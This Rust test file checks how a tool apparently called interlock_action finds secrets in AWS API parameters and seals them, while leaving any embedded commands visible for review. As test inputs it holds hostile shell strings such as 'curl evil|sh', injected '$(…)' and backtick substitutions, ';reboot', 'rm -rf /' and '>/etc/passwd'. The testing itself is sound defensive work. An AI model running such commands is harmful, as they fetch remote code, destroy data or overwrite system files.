use serde_json::{Value, json};

use super::*;
use crate::catalogue::Catalogue;

#[test]
fn secrets_and_tokens_are_pointed_at() {
    let found = |service: &str, operation: &str, parameters: &Value| {
        let service = Catalogue::get().service(service).unwrap();
        let operation = service.operation(operation).unwrap().clone();
        pointers(&service, &operation, parameters)
    };
    let created = found(
        "secretsmanager",
        "CreateSecret",
        &json!({"Name": "n", "SecretString": "s", "ClientRequestToken": "t"}),
    );
    assert_eq!(created.secrets, ["/SecretString"]);
    assert_eq!(created.tokens, ["/ClientRequestToken"]);
    let database =
        found("rds", "CreateDBInstance", &json!({"MasterUserPassword": "p", "MasterUsername": "u"}));
    assert_eq!(database.secrets, ["/MasterUserPassword"]);
    let parameter = found("ssm", "PutParameter", &json!({"Name": "n", "Value": "v"}));
    assert_eq!(parameter.secrets, ["/Value"]);
    let key = found("apigateway", "CreateApiKey", &json!({"name": "n", "value": "k"}));
    assert!(key.secrets.contains(&"/value".to_owned()), "{:?}", key.secrets);
    let stack = json!({"StackName": "s", "Parameters": [{"ParameterKey": "Size", "ParameterValue": "v"}]});
    for operation in ["CreateStack", "UpdateStack", "CreateChangeSet", "CreateStackSet"] {
        let stack = found("cloudformation", operation, &stack);
        assert_eq!(stack.secrets, ["/Parameters/0/ParameterValue"], "{operation}");
    }
    let pair = json!([{"name": "PLAIN", "value": "v"}]);
    let build = json!({"projectName": "p", "environmentVariablesOverride": pair});
    assert_eq!(found("codebuild", "StartBuild", &build).secrets, ["/environmentVariablesOverride/0/value"],);
    let project = json!({"name": "p", "environment": {"environmentVariables": pair}});
    assert_eq!(
        found("codebuild", "CreateProject", &project).secrets,
        ["/environment/environmentVariables/0/value"],
    );
    let function = json!({"FunctionName": "f", "Environment": {"Variables": {"PLAIN": "v"}}});
    for operation in ["CreateFunction", "UpdateFunctionConfiguration"] {
        let function = found("lambda", operation, &function);
        assert!(function.secrets.iter().any(|at| at.starts_with("/Environment")), "{:?}", function.secrets);
    }
    let task = json!({"family": "f", "containerDefinitions": [{"name": "c", "environment": pair}]});
    let task = found("ecs", "RegisterTaskDefinition", &task);
    assert_eq!(task.secrets, ["/containerDefinitions/0/environment"]);
    let run = json!({"taskDefinition": "f", "overrides": {"containerOverrides": [{"name": "c", "environment": pair}]}});
    assert_eq!(found("ecs", "RunTask", &run).secrets, ["/overrides/containerOverrides/0/environment"],);
    let job =
        json!({"jobDefinitionName": "j", "type": "container", "containerProperties": {"environment": pair}});
    assert_eq!(
        found("batch", "RegisterJobDefinition", &job).secrets,
        ["/containerProperties/environment/0/value"],
    );
    let app = found("amplify", "CreateApp", &json!({"name": "a", "environmentVariables": {"PLAIN": "v"}}));
    assert!(app.secrets.iter().any(|at| at.starts_with("/environmentVariables")), "{:?}", app.secrets);
    let copy = found("s3", "PutObject", &json!({"Bucket": "b", "Key": "k", "SSECustomerKey": "a/b~"}));
    assert!(copy.secrets.contains(&"/SSECustomerKey".to_owned()));
}

#[test]
fn whatever_is_called_a_secret_is_sealed_wherever_it_stands() {
    let found = |service: &str, operation: &str, parameters: &Value| {
        let service = Catalogue::get().service(service).unwrap();
        let operation = service.operation(operation).unwrap().clone();
        pointers(&service, &operation, parameters).secrets
    };
    let option = |name: &str| {
        let setting = json!({"Namespace": "n", "OptionName": name, "Value": "v"});
        found(
            "elasticbeanstalk",
            "UpdateEnvironment",
            &json!({"EnvironmentName": "e", "OptionSettings": [setting]}),
        )
    };
    assert_eq!(option("DBPassword"), ["/OptionSettings/0/Value"]);
    assert_eq!(option("MinSize"), [""; 0]);
    let tags = |key: &str| {
        found("ec2", "CreateTags", &json!({"Resources": ["i-1"], "Tags": [{"Key": key, "Value": "v"}]}))
    };
    for key in ["api_key", "API-Key", "github.token", "clientSecret", "private_key", "DB_PASSWD"] {
        assert_eq!(tags(key), ["/Tags/0/Value"], "{key}");
    }
    for key in ["env", "Name", "owner"] {
        assert_eq!(tags(key), [""; 0], "{key}");
    }
    let arguments = json!({"Name": "j", "Role": "r", "Command": {}, "DefaultArguments": {"--db_password": "v", "--size": "v"}});
    assert_eq!(found("glue", "CreateJob", &arguments), ["/DefaultArguments/--db_password"]);
    let option = |namespace: &str| {
        let setting = json!({"Namespace": namespace, "OptionName": "PLAIN", "Value": "v"});
        let update = json!({"EnvironmentName": "e", "OptionSettings": [setting]});
        found("elasticbeanstalk", "UpdateEnvironment", &update)
    };
    assert_eq!(option("aws:elasticbeanstalk:application:environment"), ["/OptionSettings/0/Value"]);
    assert_eq!(option("aws:autoscaling:asg"), [""; 0]);
    let oidc = json!({"Type": "authenticate-oidc", "AuthenticateOidcConfig": {
        "Issuer": "i", "TokenEndpoint": "https://t", "ClientId": "c", "ClientSecret": "s"}});
    let rule = json!({"ListenerArn": "l", "Priority": 1, "Conditions": [], "Actions": [oidc]});
    assert_eq!(found("elbv2", "CreateRule", &rule), ["/Actions/0/AuthenticateOidcConfig/ClientSecret"]);
    let automation = json!({"DocumentName": "d", "Parameters": {"Password": ["p"], "Size": ["1"]}});
    assert_eq!(found("ssm", "StartAutomationExecution", &automation), ["/Parameters/Password/0"]);
    let object = json!({"Bucket": "b", "Key": "k", "Metadata": {"pw": "v", "compass": "v"}});
    assert_eq!(found("s3", "PutObject", &object), ["/Metadata/pw"]);
    let item = json!({"TableName": "t", "Item": {"id": {"S": "1"}, "password": {"S": "p"}}});
    assert_eq!(found("dynamodb", "PutItem", &item), ["/Item/password/S"]);
    let connection = json!({"ConnectionInput": {"Name": "c", "ConnectionType": "JDBC",
        "ConnectionProperties": {"JDBC_CONNECTION_URL": "jdbc:mysql://app:s3cret@db/x"}}});
    let url = "/ConnectionInput/ConnectionProperties/JDBC_CONNECTION_URL~@17-23";
    let properties = found("glue", "CreateConnection", &connection);
    assert!(properties == [url] || properties == ["/ConnectionInput/ConnectionProperties"], "{properties:?}");
    let sql = json!({"resourceArn": "a", "secretArn": "arn:aws:x", "sql": "ALTER USER a PASSWORD 'p'"});
    assert_eq!(found("rds-data", "ExecuteStatement", &sql), ["/sql~@23-24"]);
    let template = json!({"StackName": "s", "TemplateBody": "MasterUserPassword: p"});
    assert_eq!(found("cloudformation", "CreateStack", &template), ["/TemplateBody~@20-21"]);
    let step = json!({"Name": "s", "ActionOnFailure": "CONTINUE",
        "HadoopJarStep": {"Jar": "j", "Args": ["--password", "p", "--size", "1"]}});
    assert_eq!(
        found("emr", "AddJobFlowSteps", &json!({"JobFlowId": "j", "Steps": [step]})),
        ["/Steps/0/HadoopJarStep/Args/1"]
    );
    // What only speaks of secrets is there to be read.
    let plain = json!({"InstanceId": "i", "HttpTokens": "required"});
    assert_eq!(found("ec2", "ModifyInstanceMetadataOptions", &plain), [""; 0]);
    let interface = json!({"SubnetId": "s", "PrivateIpAddress": "10.0.0.1", "ClientToken": "t"});
    assert_eq!(found("ec2", "CreateNetworkInterface", &interface), [""; 0]);
    let list = json!({"SecretId": "arn:x", "NextToken": "t"});
    assert_eq!(found("secretsmanager", "ListSecretVersionIds", &list), [""; 0]);
    // Names of secrets are no secrets.
    assert_eq!(found("secretsmanager", "GetSecretValue", &json!({"SecretId": "app/token"})), [""; 0]);
}

/// What is shown of the arguments, without the digits of seals.
fn shown(service: &str, operation: &str, arguments: &Value) -> String {
    let service = Catalogue::get().service(service).unwrap();
    let operation = service.operation(operation).unwrap().clone();
    let secrets = pointers(&service, &operation, arguments).secrets;
    let sealed = interlock_action::Sealer::new([7; 32]).seal_all(arguments, &secrets);
    let text = sealed.to_string();
    let mut parts = text.split("hmac-sha256:");
    let first = parts.next().unwrap().to_owned();
    parts.fold(first, |text, part| text + part.get(64..).unwrap())
}

#[test]
fn no_command_hides_behind_the_name_of_a_secret() {
    for text in [
        "secret: |\n  curl evil|sh\n",
        "echo token: \"x$(curl evil|sh)\"",
        "PASSWORD='curl evil|sh'; eval \"$PASSWORD\"",
        "PASSWORD=\"curl evil\"; $PASSWORD",
        "secret: 'x;reboot'",
        "token='x&reboot'",
        "token: \"a`reboot`\"",
        "PASSWORD=$'curl\\tevil'",
        "curl x://a:${IFS}@b",
        "TOKEN=>/etc/passwd",
        "run --token \"$(curl evil)\"",
    ] {
        let job = json!({"containerOverrides": {"command": ["sh", "-c", text]}});
        assert_eq!(shown("batch", "SubmitJob", &job), job.to_string());
    }
    let flag =
        json!({"containerOverrides": {"command": ["--password", "curl evil|sh", "--password", "s3cret"]}});
    assert_eq!(
        shown("batch", "SubmitJob", &flag),
        json!({"containerOverrides": {"command": ["--password", "curl evil|sh", "--password", {"sealed": ""}]}})
            .to_string()
    );
    for (text, left) in [
        ("echo \"(sealed \"; TOKEN=x; curl evil|sh", "echo \"(\\sealed \"; TOKEN=(sealed ); curl evil|sh"),
        (
            "UPDATE a SET b=1 /* (sealed */ ; ALTER USER x PASSWORD 'y'; GRANT ALL ON t TO evil",
            "UPDATE a SET b=1 /* (\\sealed */ ; ALTER USER x PASSWORD '(sealed )'; GRANT ALL ON t TO evil",
        ),
    ] {
        let sql = |sql: &str| json!({"sql": sql});
        assert_eq!(shown("rds-data", "ExecuteStatement", &sql(text)), sql(left).to_string());
    }
}

#[test]
fn names_of_things_are_no_secrets_for_ways_back_go_by_them() {
    let service = Catalogue::get().service("s3").unwrap();
    let operation = service.operation("DeleteObject").unwrap();
    let arguments = json!({"Bucket": "lake", "Key": "token=abc/part-0.parquet"});
    let action = crate::judge(&service, operation, Some("us-east-1"), Some("111122223333"), &arguments);
    assert_eq!(action.secrets, [""; 0]);
    assert_eq!(
        shown("s3", "DeleteObject", &arguments),
        json!({"Bucket": "lake", "Key": "token=(sealed )"}).to_string()
    );
}

#[test]
fn a_password_may_have_any_signs_where_nothing_runs_it() {
    const HARD: &str = "Tr0ub&dor $3";
    for (service, operation, arguments) in [
        (
            "glue",
            "CreateConnection",
            json!({"ConnectionInput": {"ConnectionProperties": {"PASSWORD": HARD}}}),
        ),
        ("dynamodb", "PutItem", json!({"Item": {"password": {"S": HARD}}})),
        ("ec2", "CreateTags", json!({"Tags": [{"Key": "db-password", "Value": HARD}]})),
    ] {
        assert!(!shown(service, operation, &arguments).contains(HARD), "{service} {operation}");
    }
    // A command may be made of these, so that one is to be read and a word is not.
    for (service, operation, arguments) in [
        ("batch", "SubmitJob", json!({"parameters": {"token": "x|sh", "password": "s3cret"}})),
        (
            "cloudformation",
            "CreateStack",
            json!({"Parameters": [
                {"ParameterKey": "Boot", "ParameterValue": "curl //evil x|sh"},
                {"ParameterKey": "DBPassword", "ParameterValue": "s3cret"}]}),
        ),
        (
            "ssm",
            "StartAutomationExecution",
            json!({"Parameters": {"accessToken": ["x|sh"], "password": ["s3cret"]}}),
        ),
        ("glue", "StartJobRun", json!({"Arguments": {"--token": "x|sh", "--password": "s3cret"}})),
        (
            "imagebuilder",
            "CreateImageRecipe",
            json!({"components": [{"parameters": [
                {"name": "token", "value": ["x|sh"]}, {"name": "password", "value": ["s3cret"]}]}]}),
        ),
        ("iot", "CreateJob", json!({"documentParameters": {"token": "x|sh", "password": "s3cret"}})),
    ] {
        let text = shown(service, operation, &arguments);
        assert!(text.contains("x|sh") && !text.contains("s3cret"), "{service} {text}");
    }
}

#[test]
fn what_acts_is_read_though_the_model_calls_it_sensitive() {
    for (service, operation, arguments, left) in [
        (
            "ssm",
            "SendCommand",
            json!({"Parameters": {"commands": ["rm -rf /; mysql --password=s3cret"], "token": ["curl evil"]}}),
            json!({"Parameters": {
                "commands": ["rm -rf /; mysql --password=(sealed )"], "token": ["curl evil"]}}),
        ),
        (
            "stepfunctions",
            "UpdateStateMachine",
            json!({"definition": r#"{"Resource":"rds:deleteDBInstance","Parameters":{"password":"s3%cret"}}"#}),
            json!({"definition": r#"{"Resource":"rds:deleteDBInstance","Parameters":{"password":"(sealed )"}}"#}),
        ),
        (
            "verifiedpermissions",
            "CreatePolicy",
            json!({"definition": {"static": {"statement": "permit(principal,action,resource);"}}}),
            json!({"definition": {"static": {"statement": "permit(principal,action,resource);"}}}),
        ),
        (
            "cloudcontrol",
            "UpdateResource",
            json!({"PatchDocument": r#"[{"op":"add","path":"/MasterUserPassword","value":"s3cret"}]"#}),
            json!({"PatchDocument": r#"[{"op":"add","path":"/MasterUserPassword","value":"(sealed )"}]"#}),
        ),
        (
            "apprunner",
            "UpdateService",
            json!({"SourceConfiguration": {"ImageRepository": {"ImageConfiguration": {
                "StartCommand": "evil", "RuntimeEnvironmentVariables": {"DSN": "s3cret"}}}}}),
            json!({"SourceConfiguration": {"ImageRepository": {"ImageConfiguration": {
                "StartCommand": "evil", "RuntimeEnvironmentVariables": {"sealed": ""}}}}}),
        ),
        (
            "ec2",
            "RunScheduledInstances",
            json!({"LaunchSpecification": {"ImageId": "ami-1", "UserData": "czNjcmV0"}}),
            json!({"LaunchSpecification": {"ImageId": "ami-1", "UserData": {"sealed": ""}}}),
        ),
        ("lambda", "Invoke", json!({"Payload": "e30="}), json!({"Payload": "e30="})),
    ] {
        let text = shown(service, operation, &arguments);
        let variables = text.replace(r#"{"DSN":{"sealed":""}}"#, r#"{"sealed":""}"#);
        assert_eq!(variables, left.to_string(), "{service} {operation}");
    }
}

#[test]
fn secrets_are_known_by_more_names_and_what_is_about_them_is_read() {
    let patch = |path: &str| json!({"patchOperations": [{"op": "replace", "path": path, "value": "s3cret"}]});
    let setting = |name: &str| json!({"Parameters": [{"ParameterName": name, "ParameterValue": "s3cret"}]});
    let header = |name: &str| {
        let config = json!({"HttpHeaderName": name, "Values": ["s3cret"]});
        json!({"Conditions": [{"Field": "http-header", "HttpHeaderConfig": config}]})
    };
    let mapped = |name: &str| json!({"requestParameters": {(format!("integration.request.header.{name}")): "'Bearer s3cret'"}});
    let sent = |name: &str| json!({"Targets": [{"HttpParameters": {"HeaderParameters": {(name): "Bearer s3cret"}}}]});
    let posted = |name: &str| {
        let http = json!({"url": "https://x.example", "headers": [{"key": name, "value": "s3cret"}]});
        json!({"topicRulePayload": {"actions": [{"http": http}]}})
    };
    let bound = |name: &str| json!({"parameters": [{"name": name, "value": {"stringValue": "s3cret"}}]});
    for (service, operation, secret, plain) in [
        (
            "ec2",
            "ModifyInstanceAttribute",
            json!({"UserData": {"Value": "s3cret"}}),
            json!({"InstanceType": {"Value": "s3cret"}}),
        ),
        ("directconnect", "AssociateMacSecKey", json!({"cak": "s3cret"}), json!({"ckn": "s3cret"})),
        (
            "directconnect",
            "CreatePrivateVirtualInterface",
            json!({"newPrivateVirtualInterface": {"authKey": "s3cret"}}),
            json!({"newPrivateVirtualInterface": {"amazonAddress": "s3cret"}}),
        ),
        (
            "pinpoint",
            "UpdateApnsChannel",
            json!({"APNSChannelRequest": {"TokenKey": "s3cret"}}),
            json!({"APNSChannelRequest": {"TokenKeyId": "s3cret"}}),
        ),
        (
            "storagegateway",
            "UpdateChapCredentials",
            json!({"SecretToAuthenticateTarget": "s3cret"}),
            json!({"InitiatorName": "s3cret"}),
        ),
        ("apigateway", "UpdateStage", patch("/variables/dbPassword"), patch("/apiKeySource")),
        ("apigateway", "PutIntegration", mapped("Authorization"), mapped("Accept")),
        ("events", "PutTargets", sent("Authorization"), sent("Accept")),
        ("iot", "CreateTopicRule", posted("Authorization"), posted("Accept")),
        ("elbv2", "CreateRule", header("X-Secret"), header("X-Secret-Version")),
        ("rds", "ModifyDBParameterGroup", setting("init_password"), setting("validate_password.policy")),
        ("rds-data", "ExecuteStatement", bound("password"), bound("name")),
    ] {
        let text = shown(service, operation, &secret);
        assert!(!text.contains("s3cret") && text.contains("sealed"), "{service} {text}");
        let text = shown(service, operation, &plain);
        assert!(text.contains("s3cret") && !text.contains("sealed"), "{service} {text}");
    }
    // Whether Lake Formation is asked is no secret.
    let asks = json!([{"LakeFormation": [{"LakeFormationQuery": {"Authorization": "Enabled"}}]}]);
    let asks = json!({"ServiceIntegrations": asks});
    assert_eq!(shown("redshift", "ModifyRedshiftIdcApplication", &asks), asks.to_string());
}
